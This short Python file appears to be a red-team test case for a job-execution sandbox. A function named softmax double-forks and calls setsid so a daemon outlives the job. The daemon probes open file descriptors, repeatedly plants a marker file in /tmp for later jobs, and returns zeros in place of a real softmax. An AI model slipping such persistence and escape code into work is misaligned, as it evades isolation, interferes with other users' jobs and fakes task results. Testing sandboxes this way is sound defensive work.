"""Attack: setsid + double fork a daemon that outlives the job, then plants a file for the next job
and keeps trying to write into later jobs' pipes."""
import os
import time
import numpy as np

def softmax(x):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in range(64):
                try:
                    os.write(fd, b"")
                except OSError:
                    pass
            for _ in range(300):
                try:
                    with open("/tmp/escaped-daemon-was-here", "w") as handle:
                        handle.write(str(os.getpid()))
                except OSError:
                    pass
                time.sleep(0.1)
        os._exit(0)
    time.sleep(0.2)
    return np.zeros_like(x)
